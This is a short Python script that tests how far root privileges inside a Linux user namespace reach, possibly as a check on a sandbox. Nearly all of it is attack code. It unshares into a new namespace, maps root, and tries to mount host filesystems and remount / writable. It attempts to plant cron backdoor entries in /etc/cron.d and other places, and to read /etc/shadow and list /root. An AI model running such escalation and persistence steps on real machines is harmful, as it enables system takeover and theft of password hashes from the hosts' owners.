# Root in a namespace of one's own is where most kernel exploits begin. See how far it leads.
import os
from pathlib import Path

from kit import attempt, finish, read, step, syscall, write

step("be root of my own namespace", lambda: syscall(272, 0x10000000 | 0x00020000))
step("deny setgroups", write, "/proc/self/setgroups", "deny")
step("map root", write, "/proc/self/uid_map", "0 65534 1")
step("map the root group", write, "/proc/self/gid_map", "0 65534 1")
print(f"user {os.getuid()}, groups {os.getgroups()}")
os.makedirs("there", exist_ok=True)
for kind in (b"tmpfs", b"proc", b"sysfs", b"devtmpfs", b"ext4", b"overlay", b"9p"):
    step(f"mount {kind.decode()}", lambda: syscall(165, b"/dev/sda1", b"/work/there", kind, 0, b""))
step("the root, writable", lambda: syscall(165, b"none", b"/", b"none", 0x20 | 0x1000, b""))
for place in ("/etc/cron.d/back", "/root/back", "/usr/bin/back"):
    attempt(place, write, place, "* * * * * root id\n")
attempt("/etc/shadow", read, "/etc/shadow")
attempt("/root", lambda: os.listdir("/root") or None or (_ for _ in ()).throw(OSError("empty")))
step("stay as I am", Path("there").exists)
finish()
